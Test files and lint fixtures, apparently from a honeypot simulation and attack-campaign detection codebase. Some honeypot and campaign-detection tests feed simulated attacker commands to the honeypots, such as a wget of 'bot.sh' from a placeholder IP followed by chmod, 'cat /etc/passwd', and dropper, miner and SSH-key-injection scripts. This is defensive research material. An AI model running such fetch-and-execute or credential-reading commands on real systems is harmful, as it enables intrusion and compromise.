# -- syntax errors -------------------------------------------------------------


def test_syntax_error_is_reported_as_finding(tmp_path):
    p = tmp_path / "broken.py"
    p.write_text("def f(:\n")
    result = run_lint([p], baseline=None)
    assert [f.rule for f in result.findings] == ["syntax-error"]


# -- CLI -----------------------------------------------------------------------


def test_cli_exit_codes_and_json(capsys):
    bad = str(FIXTURES / "bare_except_bad.py")
    clean = str(FIXTURES / "bare_except_clean.py")

    assert lint_main([clean, "--no-baseline"]) == 0
    capsys.readouterr()

    assert lint_main([bad, "--no-baseline", "--format", "json"]) == 1
    payload = json.loads(capsys.readouterr().out)
    assert payload["total"] == 1

    assert lint_main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rule_id in RULE_IDS:
        assert rule_id in out

    assert lint_main([bad, "--rules", "no-such-rule"]) == 2


def test_cli_write_baseline_roundtrip(tmp_path, capsys):
    bad = str(FIXTURES / "unsorted_listing_bad.py")
    baseline = str(tmp_path / "baseline.json")
    assert lint_main([bad, "--baseline", baseline, "--write-baseline"]) == 0
    capsys.readouterr()
    assert lint_main([bad, "--baseline", baseline]) == 0
    assert lint_main([bad, "--no-baseline"]) == 1


def test_repro_cli_lint_subcommand():
    proc = subprocess.run(
        [sys.executable, "-m", "repro", "lint",
         str(FIXTURES / "wall_clock_bad.py"), "--no-baseline"],
        capture_output=True, text=True, cwd=REPO_ROOT,
        env={"PYTHONPATH": "src", "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == 1
    assert "wall-clock" in proc.stdout
