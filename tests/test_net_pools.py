"""Tests for address pools and prefix allocators."""

import pytest

from repro.net.ip import IPv4Prefix, format_ip
from repro.net.pools import AddressPool, PoolRegistry, PrefixAllocator
from repro.simulation.rng import RngStream


class TestPrefixAllocator:
    def test_allocates_disjoint_children(self):
        alloc = PrefixAllocator(IPv4Prefix.parse("10.0.0.0/16"), 24)
        a = alloc.allocate()
        b = alloc.allocate()
        assert a != b
        assert not a.contains(b.network)

    def test_capacity(self):
        alloc = PrefixAllocator(IPv4Prefix.parse("10.0.0.0/16"), 24)
        assert alloc.capacity == 256

    def test_exhaustion(self):
        alloc = PrefixAllocator(IPv4Prefix.parse("10.0.0.0/30"), 31)
        alloc.allocate()
        alloc.allocate()
        with pytest.raises(RuntimeError):
            alloc.allocate()

    def test_child_smaller_than_parent_rejected(self):
        with pytest.raises(ValueError):
            PrefixAllocator(IPv4Prefix.parse("10.0.0.0/24"), 16)

    def test_allocated_tracking(self):
        alloc = PrefixAllocator(IPv4Prefix.parse("10.0.0.0/16"), 24)
        alloc.allocate()
        alloc.allocate()
        assert len(alloc.allocated) == 2


class TestAddressPool:
    def test_sequential_unique(self):
        pool = AddressPool([IPv4Prefix.parse("192.0.2.0/28")])
        addrs = [pool.allocate_sequential() for _ in range(16)]
        assert len(set(addrs)) == 16

    def test_sequential_in_order(self):
        pool = AddressPool([IPv4Prefix.parse("192.0.2.0/30")])
        assert format_ip(pool.allocate_sequential()) == "192.0.2.0"
        assert format_ip(pool.allocate_sequential()) == "192.0.2.1"

    def test_sequential_exhaustion(self):
        pool = AddressPool([IPv4Prefix.parse("192.0.2.0/31")])
        pool.allocate_sequential()
        pool.allocate_sequential()
        with pytest.raises(RuntimeError):
            pool.allocate_sequential()

    def test_sample_unique(self):
        pool = AddressPool([IPv4Prefix.parse("192.0.2.0/24")])
        rng = RngStream(1, "pool")
        addrs = pool.sample_many(rng, 100)
        assert len(set(addrs)) == 100

    def test_sample_within_prefixes(self):
        prefix = IPv4Prefix.parse("198.51.100.0/24")
        pool = AddressPool([prefix])
        rng = RngStream(2, "pool")
        for _ in range(50):
            assert prefix.contains(pool.sample(rng))

    def test_multiple_prefixes(self):
        p1 = IPv4Prefix.parse("192.0.2.0/30")
        p2 = IPv4Prefix.parse("198.51.100.0/30")
        pool = AddressPool([p1, p2])
        addrs = [pool.allocate_sequential() for _ in range(8)]
        assert sum(p1.contains(a) for a in addrs) == 4
        assert sum(p2.contains(a) for a in addrs) == 4

    def test_sample_exhaustion_dense(self):
        pool = AddressPool([IPv4Prefix.parse("192.0.2.0/30")])
        rng = RngStream(3, "pool")
        pool.sample_many(rng, 4)
        with pytest.raises(RuntimeError):
            pool.sample(rng)

    def test_empty_pool_rejected(self):
        with pytest.raises(ValueError):
            AddressPool([])

    def test_capacity(self):
        pool = AddressPool([IPv4Prefix.parse("10.0.0.0/24"),
                            IPv4Prefix.parse("10.1.0.0/24")])
        assert pool.capacity == 512

    def test_contains(self):
        pool = AddressPool([IPv4Prefix.parse("10.0.0.0/24")])
        from repro.net.ip import parse_ip
        assert pool.contains(parse_ip("10.0.0.5"))
        assert not pool.contains(parse_ip("10.0.1.5"))


class TestPoolRegistry:
    def test_register_and_get(self):
        registry = PoolRegistry()
        pool = AddressPool([IPv4Prefix.parse("10.0.0.0/24")])
        registry.register("as1", pool)
        assert registry.get("as1") is pool
        assert registry["as1"] is pool
        assert "as1" in registry

    def test_duplicate_rejected(self):
        registry = PoolRegistry()
        pool = AddressPool([IPv4Prefix.parse("10.0.0.0/24")])
        registry.register("as1", pool)
        with pytest.raises(ValueError):
            registry.register("as1", pool)

    def test_get_missing(self):
        assert PoolRegistry().get("nope") is None
