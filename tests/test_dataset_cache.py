"""Tests for the fingerprinted dataset cache (repro.workload.cache)."""

from __future__ import annotations

import dataclasses

import numpy as np
import pytest

from repro.obs import get_metrics
from repro.workload import ScenarioConfig, generate_dataset
from repro.workload.cache import (
    DatasetCache,
    dataset_fingerprint,
    resolve_cache_dir,
)


@pytest.fixture()
def tiny_config() -> ScenarioConfig:
    return ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.005)


def _cache_counters(snapshot):
    delta = get_metrics().delta_since(snapshot)
    return {k: v for k, v in delta["counters"].items() if k.startswith("cache.")}


class TestFingerprint:
    def test_stable_for_equal_configs(self, tiny_config):
        again = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.005)
        assert dataset_fingerprint(tiny_config) == dataset_fingerprint(again)

    def test_sensitive_to_every_field(self, tiny_config):
        base = dataset_fingerprint(tiny_config)
        for change in (
            {"seed": 8},
            {"scale": 1 / 40000},
            {"hash_scale": 0.004},
            {"intel_coverage": 0.5},
            {"uri_locality_bias": 0.0},
            {"rotate_campaign_members": False},
        ):
            other = dataclasses.replace(tiny_config, **change)
            assert dataset_fingerprint(other) != base, change

    def test_pipeline_family_not_worker_count(self, tiny_config):
        serial = dataset_fingerprint(tiny_config, workers=None)
        w1 = dataset_fingerprint(tiny_config, workers=1)
        w8 = dataset_fingerprint(tiny_config, workers=8)
        assert w1 == w8  # sharded output is worker-count independent
        assert serial != w1  # serial and sharded are distinct traces


class TestResolveCacheDir:
    def test_explicit_wins(self, tmp_path, monkeypatch):
        monkeypatch.setenv("REPRO_CACHE", "/somewhere/else")
        assert resolve_cache_dir(tmp_path) == tmp_path

    def test_env_fallback(self, tmp_path, monkeypatch):
        monkeypatch.setenv("REPRO_CACHE", str(tmp_path))
        assert resolve_cache_dir() == tmp_path

    def test_unset_means_no_cache(self, monkeypatch):
        monkeypatch.delenv("REPRO_CACHE", raising=False)
        assert resolve_cache_dir() is None


class TestCacheRoundTrip:
    def test_miss_then_hit_returns_equal_dataset(self, tiny_config, tmp_path):
        snap = get_metrics().to_dict()
        cold = generate_dataset(tiny_config, cache=tmp_path)
        counters = _cache_counters(snap)
        assert counters.get("cache.misses") == 1
        assert counters.get("cache.stores") == 1

        snap = get_metrics().to_dict()
        warm = generate_dataset(tiny_config, cache=tmp_path)
        counters = _cache_counters(snap)
        assert counters.get("cache.hits") == 1
        assert "cache.misses" not in counters

        assert len(warm.store) == len(cold.store)
        assert np.array_equal(warm.store.start_time, cold.store.start_time)
        assert warm.store.hash_ids == cold.store.hash_ids
        assert warm.config == cold.config
        assert len(warm.campaigns) == len(cold.campaigns)
        assert sorted(e.sha256 for e in warm.intel.entries()) == sorted(
            e.sha256 for e in cold.intel.entries()
        )

    def test_config_change_misses(self, tiny_config, tmp_path):
        generate_dataset(tiny_config, cache=tmp_path)
        other = dataclasses.replace(tiny_config, seed=8)
        snap = get_metrics().to_dict()
        generate_dataset(other, cache=tmp_path)
        assert _cache_counters(snap).get("cache.misses") == 1
        entries = [p for p in tmp_path.iterdir() if p.is_dir()]
        assert len(entries) == 2

    def test_corrupt_store_regenerates(self, tiny_config, tmp_path):
        cold = generate_dataset(tiny_config, cache=tmp_path)
        entry = DatasetCache(tmp_path).entry_dir(dataset_fingerprint(tiny_config))
        (entry / "store.npz").write_bytes(b"not a zipfile")

        snap = get_metrics().to_dict()
        regenerated = generate_dataset(tiny_config, cache=tmp_path)
        counters = _cache_counters(snap)
        assert counters.get("cache.corrupt_entries") == 1
        assert counters.get("cache.misses") == 1
        assert counters.get("cache.stores") == 1
        assert len(regenerated.store) == len(cold.store)

        # The rewritten entry is healthy again.
        snap = get_metrics().to_dict()
        generate_dataset(tiny_config, cache=tmp_path)
        assert _cache_counters(snap).get("cache.hits") == 1

    def test_missing_sidecar_regenerates(self, tiny_config, tmp_path):
        generate_dataset(tiny_config, cache=tmp_path)
        entry = DatasetCache(tmp_path).entry_dir(dataset_fingerprint(tiny_config))
        (entry / "dataset.json").unlink()
        snap = get_metrics().to_dict()
        dataset = generate_dataset(tiny_config, cache=tmp_path)
        counters = _cache_counters(snap)
        assert counters.get("cache.misses") == 1
        assert len(dataset.store) > 0

    def test_no_temp_dirs_left_behind(self, tiny_config, tmp_path):
        generate_dataset(tiny_config, cache=tmp_path)
        assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
