"""Tests for the interaction-script library."""

import pytest

from repro.agents.scripts import ScriptKind, build_script


class TestBuildScript:
    def test_recon_no_uris(self):
        script = build_script(ScriptKind.RECON, token="c1")
        assert script.lines
        assert script.dropper_uri is None

    def test_recon_variant_stable_in_token(self):
        a = build_script(ScriptKind.RECON, token="same")
        b = build_script(ScriptKind.RECON, token="same")
        assert a.lines == b.lines

    def test_key_inject_embeds_token(self):
        script = build_script(ScriptKind.KEY_INJECT, token="CAMP1")
        joined = "\n".join(script.lines)
        assert "CAMP1" in joined
        assert "authorized_keys" in joined

    def test_key_inject_distinct_tokens_distinct_keys(self):
        a = build_script(ScriptKind.KEY_INJECT, token="A")
        b = build_script(ScriptKind.KEY_INJECT, token="B")
        assert a.lines != b.lines

    def test_dropper_has_uri_and_payload(self):
        script = build_script(ScriptKind.DROPPER, token="H4", dropper_host="198.51.100.9")
        assert script.dropper_uri.startswith("http://198.51.100.9/")
        assert script.payload is not None
        assert script.payload.startswith(b"\x7fELF")

    def test_dropper_payload_deterministic(self):
        a = build_script(ScriptKind.DROPPER, token="H4")
        b = build_script(ScriptKind.DROPPER, token="H4")
        assert a.payload == b.payload

    def test_dropper_distinct_tokens_distinct_payloads(self):
        a = build_script(ScriptKind.DROPPER, token="H4")
        b = build_script(ScriptKind.DROPPER, token="H5")
        assert a.payload != b.payload

    def test_dropper_includes_busybox_probe(self):
        script = build_script(ScriptKind.DROPPER, token="x")
        assert any("busybox" in line for line in script.lines)

    def test_miner_script(self):
        script = build_script(ScriptKind.MINER, token="xm1")
        assert script.dropper_uri is not None
        assert b"xmrig" in script.payload

    def test_chpasswd_token_specific(self):
        a = build_script(ScriptKind.CHPASSWD, token="A")
        b = build_script(ScriptKind.CHPASSWD, token="B")
        assert a.lines != b.lines

    def test_file_token(self):
        script = build_script(ScriptKind.FILE_TOKEN, token="unique-xyz")
        assert any("unique-xyz" in line for line in script.lines)

    def test_fileless(self):
        script = build_script(ScriptKind.FILELESS, token="f1")
        assert script.lines

    def test_all_kinds_buildable(self):
        for kind in ScriptKind:
            assert build_script(kind, token="t").lines
