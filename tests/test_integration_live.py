"""End-to-end integration: attacker agents drive real honeypots through the
discrete-event engine, the collector stores records, and the analyses run.

This exercises the *interactive* generation path — the full honeypot state
machine, event emission, geolocation stamping and classification — on a
small simulated farm.
"""

import numpy as np
import pytest

from repro.agents.credentials import CredentialDictionary
from repro.core.classify import Category, category_shares, classify_store
from repro.core.tables import table1_categories
from repro.farm.collector import FarmCollector
from repro.farm.deployment import build_default_deployment
from repro.geo.registry import GeoRegistry, NetworkType
from repro.net.tcp import SSH_PORT, TELNET_PORT, TcpModel
from repro.simulation.engine import SimulationEngine
from repro.simulation.rng import RngStream


@pytest.fixture(scope="module")
def live_store():
    """Drive a small live farm and return the collected store."""
    registry = GeoRegistry()
    plan = build_default_deployment(registry=registry)
    collector = FarmCollector(registry=registry)
    pots = plan.build_honeypots(summary_sink=collector.on_summary)[:20]

    rng = RngStream(77, "live")
    creds = CredentialDictionary(rng.child("creds"))
    tcp = TcpModel(rng.child("tcp"), loss_probability=0.0)
    client_as = registry.register_as("CN", NetworkType.RESIDENTIAL)
    pool = client_as.pool()
    engine = SimulationEngine()

    def launch_scan(client_ip, pot, port, at):
        def action():
            handshake = tcp.handshake()
            session = pot.accept(client_ip, 40000, port,
                                 engine.clock.seconds + handshake.elapsed)
            engine.schedule(rng.uniform(1, 20), lambda: (
                session.client_disconnect(engine.clock.seconds)
                if not session.is_closed else None
            ))
        engine.schedule_at(at, action)

    def launch_scout(client_ip, pot, at):
        def action():
            session = pot.accept(client_ip, 41000, SSH_PORT, engine.clock.seconds)
            delay = 1.0
            for username, password in creds.attempt_sequence(3, end_success=False):
                when = engine.clock.seconds + delay
                engine.schedule(delay, lambda u=username, p=password, s=session: (
                    s.try_login(u, p, engine.clock.seconds)
                    if not s.is_closed else None
                ))
                delay += rng.uniform(1, 4)
        engine.schedule_at(at, action)

    def launch_intrusion(client_ip, pot, at, lines):
        def action():
            session = pot.accept(client_ip, 42000, SSH_PORT, engine.clock.seconds)
            session.try_login("root", creds.successful_password(),
                              engine.clock.seconds + 1.0)
            delay = 2.0
            for line in lines:
                engine.schedule(delay, lambda l=line, s=session: (
                    s.input_line(l, engine.clock.seconds)
                    if not s.is_closed else None
                ))
                delay += 2.0
            engine.schedule(delay + 1.0, lambda s=session: (
                s.client_disconnect(engine.clock.seconds)
                if not s.is_closed else None
            ))
        engine.schedule_at(at, action)

    clients = [pool.sample(rng) for _ in range(30)]
    at = 1.0
    for i, client_ip in enumerate(clients):
        pot = pots[i % len(pots)]
        if i % 3 == 0:
            launch_scan(client_ip, pot, TELNET_PORT if i % 2 else SSH_PORT, at)
        elif i % 3 == 1:
            launch_scout(client_ip, pot, at)
        else:
            launch_intrusion(client_ip, pot, at, [
                "uname -a; free -m",
                "wget http://198.51.100.9/bot.sh; chmod 777 bot.sh",
            ])
        at += rng.uniform(5, 30)

    engine.run(until=5_000.0)
    for pot in pots:
        pot.reap(100_000.0)  # time out anything still open
    return collector.build_store()


class TestLiveFarm:
    def test_all_sessions_collected(self, live_store):
        assert len(live_store) == 30

    def test_all_categories_produced(self, live_store):
        shares = category_shares(live_store)
        assert shares[Category.NO_CRED] > 0
        assert shares[Category.FAIL_LOG] > 0
        assert shares[Category.CMD_URI] > 0

    def test_geo_stamping(self, live_store):
        assert all(live_store.record(i).client_country == "CN"
                   for i in range(len(live_store)))

    def test_scout_sessions_record_credentials(self, live_store):
        codes = classify_store(live_store)
        fail_sessions = np.nonzero(codes == 1)[0]
        assert len(fail_sessions)
        for i in fail_sessions:
            record = live_store.record(int(i))
            assert record.n_login_attempts >= 1
            assert not record.login_success

    def test_intrusions_carry_hashes_and_uris(self, live_store):
        codes = classify_store(live_store)
        uri_sessions = np.nonzero(codes == 4)[0]
        assert len(uri_sessions)
        for i in uri_sessions:
            record = live_store.record(int(i))
            assert record.uris
            assert record.file_hashes
            assert record.login_success

    def test_durations_realistic(self, live_store):
        assert (live_store.duration > 0).all()
        assert live_store.duration.max() < 4_000

    def test_table1_runs_on_live_data(self, live_store):
        t1 = table1_categories(live_store)
        assert sum(t1.overall.values()) == pytest.approx(1.0)
