"""Tests for behaviour-based campaign detection."""

import pytest

from repro.core.campaign_detect import (
    DetectedCampaign,
    UnionFind,
    cluster_scripts,
    detect_campaigns,
    jaccard,
    validate_against_hashes,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


class TestUnionFind:
    def test_union_and_find(self):
        uf = UnionFind(5)
        uf.union(0, 1)
        uf.union(1, 2)
        assert uf.find(0) == uf.find(2)
        assert uf.find(3) != uf.find(0)

    def test_groups(self):
        uf = UnionFind(4)
        uf.union(0, 3)
        groups = uf.groups()
        sizes = sorted(len(g) for g in groups.values())
        assert sizes == [1, 1, 2]


class TestJaccard:
    def test_identical(self):
        assert jaccard(frozenset("ab"), frozenset("ab")) == 1.0

    def test_disjoint(self):
        assert jaccard(frozenset("ab"), frozenset("cd")) == 0.0

    def test_partial(self):
        assert jaccard(frozenset("abc"), frozenset("bcd")) == pytest.approx(0.5)

    def test_empty(self):
        assert jaccard(frozenset(), frozenset()) == 1.0


def store_with_scripts():
    """Two campaign variants sharing most commands + one unrelated script."""
    builder = StoreBuilder()
    variant_a = ("uname -a", "wget http://x/a", "chmod 777 a", "./a")
    variant_b = ("uname -a", "wget http://x/b", "chmod 777 a", "./a")
    unrelated = ("cat /etc/passwd",)
    rows = [
        (variant_a, ("1" * 64,), 1),
        (variant_a, ("1" * 64,), 2),
        (variant_b, ("2" * 64,), 3),
        (variant_b, ("2" * 64,), 4),
        (unrelated, (), 5),
        (unrelated, (), 6),
    ]
    for commands, hashes, ip in rows:
        builder.append(SessionRecord(
            start_time=float(ip), duration=1.0, honeypot_id=f"p{ip % 2}",
            protocol="ssh", client_ip=ip, client_asn=1, client_country="US",
            n_login_attempts=1, login_success=True,
            commands=commands, file_hashes=hashes,
        ))
    return builder.build()


class TestClustering:
    def test_variants_merge(self):
        store = store_with_scripts()
        clusters = cluster_scripts(store, threshold=0.5)
        sizes = sorted(len(m) for m in clusters.values())
        # The two dropper variants merge; the recon script stays alone.
        assert sizes == [1, 2]

    def test_high_threshold_keeps_apart(self):
        store = store_with_scripts()
        clusters = cluster_scripts(store, threshold=0.99)
        assert all(len(m) == 1 for m in clusters.values())

    def test_detect_campaigns(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.5)
        assert len(campaigns) == 2
        top = campaigns[0]
        assert top.n_sessions == 4  # merged dropper variants
        assert top.n_clients == 4
        assert top.span_days >= 1

    def test_min_sessions_filter(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.5, min_sessions=3)
        assert len(campaigns) == 1

    def test_empty_store(self):
        assert detect_campaigns(StoreBuilder().build()) == []


class TestValidation:
    def test_purity_and_recall(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.99)  # exact clusters
        result = validate_against_hashes(store, campaigns)
        # Exact script clusters are hash-pure and capture both campaigns.
        assert result.purity == 1.0
        assert result.recall == 1.0
        assert result.n_hash_campaigns == 2

    def test_generated_trace_detection(self, small_dataset):
        campaigns = detect_campaigns(small_dataset.store, threshold=0.7)
        assert len(campaigns) > 10
        result = validate_against_hashes(small_dataset.store, campaigns)
        # Behaviour clusters should align strongly with hash ground truth.
        assert result.purity > 0.6
        assert result.recall > 0.8

    def test_h1_campaign_detected(self, small_dataset):
        # The dominant key-inject campaign is a single behaviour cluster
        # with the most sessions.
        campaigns = detect_campaigns(small_dataset.store, threshold=0.7)
        top = campaigns[0]
        joined = " ".join(top.representative_commands)
        assert "authorized_keys" in joined
