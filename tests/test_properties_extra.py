"""Additional property-based tests for the newer subsystems."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.campaign_detect import UnionFind, jaccard
from repro.honeypot.artifacts import ArtifactStore
from repro.honeypot.protocol import Protocol
from repro.honeypot.session import HoneypotSession
from repro.honeypot.telnet import TelnetFrontend, TelnetPhase
from repro.honeypot.ttylog import TtyLog


class TestUnionFindProperties:
    @given(st.lists(st.tuples(st.integers(0, 19), st.integers(0, 19)),
                    max_size=40))
    def test_union_is_equivalence(self, pairs):
        uf = UnionFind(20)
        for a, b in pairs:
            uf.union(a, b)
        # Reflexive+symmetric+transitive: roots are stable.
        for a, b in pairs:
            assert uf.find(a) == uf.find(b)
        groups = uf.groups()
        assert sum(len(g) for g in groups.values()) == 20

    @given(st.lists(st.tuples(st.integers(0, 9), st.integers(0, 9)),
                    max_size=20))
    def test_groups_partition(self, pairs):
        uf = UnionFind(10)
        for a, b in pairs:
            uf.union(a, b)
        seen = set()
        for members in uf.groups().values():
            assert seen.isdisjoint(members)
            seen.update(members)
        assert seen == set(range(10))


class TestJaccardProperties:
    sets = st.frozensets(st.text(alphabet="abcdef", min_size=1, max_size=3),
                         max_size=8)

    @given(sets, sets)
    def test_symmetric_and_bounded(self, a, b):
        assert jaccard(a, b) == jaccard(b, a)
        assert 0.0 <= jaccard(a, b) <= 1.0

    @given(sets)
    def test_identity(self, a):
        assert jaccard(a, a) == 1.0


class TestArtifactProperties:
    @given(st.lists(st.binary(min_size=1, max_size=32), min_size=1,
                    max_size=40))
    def test_unique_count_matches_contents(self, payloads):
        store = ArtifactStore()
        for i, payload in enumerate(payloads):
            store.submit(payload, now=float(i))
        assert len(store) == len(set(payloads))
        assert store.total_submissions == len(payloads)
        assert sum(a.times_seen for a in store.artifacts()) == len(payloads)


class TestTtyLogProperties:
    entries = st.lists(
        st.tuples(st.floats(min_value=0, max_value=1e6, allow_nan=False),
                  st.text(alphabet=string.printable.replace("\r", ""),
                          min_size=1, max_size=30)),
        max_size=20,
    )

    @given(entries)
    @settings(max_examples=30)
    def test_dump_load_roundtrip(self, raw):
        import tempfile
        from pathlib import Path

        log = TtyLog("s")
        for t, data in sorted(raw):
            log.record_input(t, data)
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "log.jsonl"
            log.dump(path)
            assert TtyLog.load(path).entries == log.entries


class TestTelnetProperties:
    lines = st.lists(st.text(alphabet=string.ascii_letters + string.digits,
                             min_size=1, max_size=12), min_size=1, max_size=8)

    @given(lines)
    @settings(max_examples=40)
    def test_dialogue_never_crashes(self, inputs):
        session = HoneypotSession(
            honeypot_id="h", honeypot_ip=1, protocol=Protocol.TELNET,
            client_ip=2, client_port=3, start_time=0.0,
        )
        frontend = TelnetFrontend(session=session)
        now = 1.0
        for line in inputs:
            frontend.client_says(line, now)
            now += 1.0
        frontend.hang_up(now)
        assert frontend.phase is TelnetPhase.CLOSED
        assert session.is_closed
