"""wall-clock: real-time reads in pipeline code (2 findings)."""

import time
from datetime import datetime


def stamp_record(record):
    record["wall"] = datetime.now().isoformat()
    return record
