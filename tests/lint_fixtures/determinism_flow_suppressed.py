"""determinism-flow: same flows, suppressed at the sink sites."""

import hashlib
import os


def host_stamp():
    return os.getenv("HOSTNAME", "unknown")


def write_sessions(builder):
    # repro: lint-ok[determinism-flow]
    builder.append_block("origin", host_stamp())


def fingerprint(payload):
    token = str(id(payload))
    digest = hashlib.sha256(token.encode())  # repro: lint-ok[determinism-flow]
    return digest.hexdigest()
