"""unordered-iter: same constructs, suppressed inline."""


def emit_order(sessions):
    seen = set(sessions)
    for session in seen:  # repro: lint-ok[unordered-iter]
        yield session


def column(categories):
    return list(set(categories))  # repro: lint-ok[unordered-iter]


def labels(tags):
    # repro: lint-ok[unordered-iter]
    return ",".join({t.lower() for t in tags})
