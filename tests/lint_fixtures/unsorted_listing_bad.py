"""unsorted-listing: filesystem-order results in pipeline logic (3 findings)."""

import glob
import os
from pathlib import Path


def shard_files(root):
    return [name for name in os.listdir(root) if name.endswith(".npz")]


def trace_files(root):
    return glob.glob(f"{root}/*.jsonl")


def bundle_entries(root):
    return list(Path(root).iterdir())
