"""global-random: stdlib random and numpy.random global state (3 findings)."""

import random
from random import choice

import numpy as np


def jitter(values):
    np.random.seed(0)
    return [v + random.random() for v in values] + [choice(values)]
