"""worker-boundary: the sanctioned idiom — picklable payloads, memo caches."""

import multiprocessing

_PLAN_CACHE = {}


def worker_main(task):
    plan = _PLAN_CACHE.setdefault(task, task * 2)
    return plan


def launch(task):
    proc = multiprocessing.Process(target=worker_main, args=(task,))
    proc.start()
    return proc


async def poll_status(backend):
    return backend.peek()
