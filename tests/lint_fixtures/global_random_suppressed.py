"""global-random: same constructs, every site suppressed inline."""

import random  # repro: lint-ok[global-random]
from random import choice  # repro: lint-ok[global-random]

import numpy as np


def jitter(values):
    np.random.seed(0)  # repro: lint-ok[global-random]
    return [v + random.random() for v in values] + [choice(values)]
