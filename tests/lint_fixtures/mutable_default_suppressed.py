"""mutable-default: same constructs, suppressed inline."""


def collect(record, acc=[]):  # repro: lint-ok[mutable-default]
    acc.append(record)
    return acc


def tally(name, counts={}):  # repro: lint-ok[mutable-default]
    counts[name] = counts.get(name, 0) + 1
    return counts
