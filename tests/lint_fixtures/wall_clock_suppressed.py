"""wall-clock: same constructs, suppressed (same-line and standalone)."""

import time  # repro: lint-ok[wall-clock]
from datetime import datetime


def stamp_record(record):
    # repro: lint-ok[wall-clock]
    record["wall"] = datetime.now().isoformat()
    return record
