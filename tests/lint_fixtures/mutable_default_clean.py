"""mutable-default: the sanctioned idiom — None default, create inside."""


def collect(record, acc=None):
    if acc is None:
        acc = []
    acc.append(record)
    return acc
