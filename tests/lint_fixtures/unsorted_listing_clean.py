"""unsorted-listing: the sanctioned idiom — sorted(...) at the call site."""

import glob
import os
from pathlib import Path


def shard_files(root):
    return [name for name in sorted(os.listdir(root))
            if name.endswith(".npz")]


def trace_files(root):
    return sorted(glob.glob(f"{root}/*.jsonl"))


def bundle_entries(root):
    return sorted(Path(root).iterdir())
