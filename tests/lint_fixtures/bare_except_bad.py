"""bare-except: swallows everything, KeyboardInterrupt included (1 finding)."""


def parse_or_none(text):
    try:
        return int(text)
    except:
        return None
