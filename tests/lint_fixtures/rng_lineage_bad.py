"""rng-lineage: collision, orphan, and headless name (3 findings)."""

from repro.simulation.rng import RngStream


def build_arrivals(seed):
    rng = RngStream(seed, "fixture.arrivals")
    return rng.uniform(0.0, 1.0)


def rebuild_arrivals(seed):
    rng = RngStream(seed, "fixture.arrivals")
    return rng.uniform(0.0, 1.0)


def derive_spare(seed):
    spare = RngStream(seed, "fixture.spare")
    return seed


def dynamic_name(seed, kind):
    return RngStream(seed, f"{kind}.arrivals")
