"""determinism-flow: nondeterministic values reach output (2 findings)."""

import hashlib
import os


def host_stamp():
    return os.getenv("HOSTNAME", "unknown")


def write_sessions(builder):
    builder.append_block("origin", host_stamp())


def fingerprint(payload):
    token = str(id(payload))
    digest = hashlib.sha256(token.encode())
    return digest.hexdigest()
