"""determinism-flow: the sanctioned idiom — values derive from (config, seed)."""

import hashlib


def session_token(config, index):
    return f"{config.seed}:{index}"


def write_sessions(builder, config, index):
    builder.append_block("origin", session_token(config, index))


def fingerprint(config, index):
    digest = hashlib.sha256(session_token(config, index).encode())
    return digest.hexdigest()
