"""unordered-iter: the sanctioned idioms — sorted / order-preserving dedup.

Membership tests and order-insensitive reductions over sets are fine;
only iteration that can leak set order is the hazard.
"""


def emit_order(sessions):
    for session in sorted(set(sessions)):
        yield session


def column(categories):
    return list(dict.fromkeys(categories))


def any_flagged(tags, flagged):
    flags = set(flagged)
    return any(t in flags for t in tags)
