"""global-random: the sanctioned idiom — draws from a named RngStream."""

from repro.simulation.rng import RngStream


def jitter(values, seed):
    rng = RngStream(seed, "fixtures.jitter")
    return [v + rng.random() for v in values]
