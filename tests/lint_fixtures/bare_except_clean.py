"""bare-except: the sanctioned idiom — name what the operation raises."""


def parse_or_none(text):
    try:
        return int(text)
    except (TypeError, ValueError):
        return None
