"""bare-except: same construct, suppressed inline."""


def parse_or_none(text):
    try:
        return int(text)
    except:  # repro: lint-ok[bare-except]
        return None
