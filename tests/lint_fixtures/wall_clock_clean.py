"""wall-clock: the sanctioned idiom — obs-layer stopwatch and sim time."""

from repro.obs import get_metrics, stopwatch


def timed_merge(merge, *args):
    watch = stopwatch()
    result = merge(*args)
    get_metrics().observe("store.adopt_seconds", watch.elapsed())
    return result
