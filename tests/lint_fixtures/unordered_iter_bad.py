"""unordered-iter: set iteration feeding ordered output (3 findings)."""


def emit_order(sessions):
    seen = set(sessions)
    for session in seen:
        yield session


def column(categories):
    return list(set(categories))


def labels(tags):
    return ",".join({t.lower() for t in tags})
