"""rng-lineage: same constructs, suppressed with justification."""

from repro.simulation.rng import RngStream


def build_arrivals(seed):
    rng = RngStream(seed, "fixture.arrivals")
    return rng.uniform(0.0, 1.0)


def rebuild_arrivals(seed):
    # Intentional replay of the owning stream (load path).
    rng = RngStream(seed, "fixture.arrivals")  # repro: lint-ok[rng-lineage]
    return rng.uniform(0.0, 1.0)


def derive_spare(seed):
    # Reserved derivation, consumer lands in a later change.
    spare = RngStream(seed, "fixture.spare")  # repro: lint-ok[rng-lineage]
    return seed


def dynamic_name(seed, kind):
    return RngStream(seed, f"{kind}.arrivals")  # repro: lint-ok[rng-lineage]
