"""unsorted-listing: same constructs, suppressed inline."""

import glob
import os
from pathlib import Path


def shard_files(root):
    # repro: lint-ok[unsorted-listing]
    return [name for name in os.listdir(root) if name.endswith(".npz")]


def trace_files(root):
    return glob.glob(f"{root}/*.jsonl")  # repro: lint-ok[unsorted-listing]


def bundle_entries(root):
    return list(Path(root).iterdir())  # repro: lint-ok[unsorted-listing]
