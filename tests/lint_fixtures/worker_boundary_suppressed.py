"""worker-boundary: same constructs, suppressed inline."""

import multiprocessing

RESULTS = {}


def worker_main(task):
    RESULTS[task] = task * 2  # repro: lint-ok[worker-boundary]
    return RESULTS[task]


def launch(task):
    proc = multiprocessing.Process(
        target=worker_main,
        # repro: lint-ok[worker-boundary]
        args=(lambda: task,),
    )
    proc.start()
    return proc


async def poll_console():
    command = input()  # repro: lint-ok[worker-boundary]
    return command
