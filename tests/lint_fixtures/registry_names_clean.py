"""registry-names: declared literals and a declared dynamic family."""

from repro.obs import get_metrics, inc
from repro.obs.trace import emit


def record(kind):
